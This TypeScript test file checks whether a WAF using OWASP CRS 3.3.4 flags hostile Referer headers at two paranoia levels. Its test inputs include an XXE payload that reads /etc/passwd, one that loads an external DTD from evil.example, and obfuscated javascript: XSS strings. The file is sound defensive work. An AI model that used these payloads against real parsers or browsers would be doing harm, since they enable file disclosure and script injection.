/**
 * Which detector sees the Referer at which level, through the WAF with CRS 3.3.4 as it ships: the
 * SQL detector at loose (942100, paranoia level 1), the XSS detector from normal on (941101, level
 * 2). Loose is CRS's choice and stays; at normal the detector must catch what a browser or an XML
 * parser would act on.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import { createWaf, type LevelProfile, type Waf, type WafRequest } from '#engine/waf';
import { detectRuleSetDir, loadRuleSet } from '#engine/waf/ruleset';
import { missing } from '../../../support/crs-dirs.ts';

function withReferer(referer: string): WafRequest {
  return {
    method: 'GET',
    uri: '/products?id=4',
    protocol: 'HTTP/1.1',
    headers: [
      ['Host', 'shop.example'],
      ['User-Agent', 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0'],
      ['Accept', 'text/html'],
      ['Referer', referer],
    ],
    body: null,
    remoteAddr: '192.0.2.10',
    remotePort: 40000,
    serverAddr: '192.0.2.1',
    serverPort: 80,
  };
}

let waf: Waf;
let loose: LevelProfile;
let normal: LevelProfile;

beforeAll(async () => {
  const found = detectRuleSetDir();
  if (missing.crs3 || !found) return;
  waf = createWaf(await loadRuleSet(found.dir, found.options));
  loose = waf.levels({ '941': 1, '942': 1 });
  normal = waf.levels({ '941': 2, '942': 2 });
});

const ids = (referer: string, levels: LevelProfile): string[] =>
  waf.inspect(withReferer(referer), { levels }).matched.map((m) => m.id);

describe('detectors on the Referer header (CRS 3.3.4)', () => {
  for (const referer of [
    '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><x>&xxe;</x>',
    '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % e SYSTEM "http://evil.example/x.dtd"> %e;]>',
    'javascript&colon;alert(1)',
    'https://x.example/?q=<a href="java&Tab;script&colon;alert(1)">x</a>',
  ]) {
    it(`normal: the XSS detector (941101) flags ${referer}`, ({ skip }) => {
      if (missing.crs3) skip(missing.crs3);
      expect(ids(referer, normal)).toContain('941101');
    });
    it(`loose: leaves ${referer} to the regex rules (941101 does not run)`, ({ skip }) => {
      if (missing.crs3) skip(missing.crs3);
      expect(ids(referer, loose)).not.toContain('941101');
    });
  }

  it("loose: the SQL detector (942100) flags a Referer that carries '-alert(1)-'", ({ skip }) => {
    if (missing.crs3) skip(missing.crs3);
    expect(ids("https://x.example/?q='-alert(1)-'", loose)).toContain('942100');
  });

  it('passes an ordinary Referer at normal', ({ skip }) => {
    if (missing.crs3) skip(missing.crs3);
    expect(ids('https://www.example.com/search?q=select+the+best+option&lang=en', normal)).toEqual([]);
  });
});
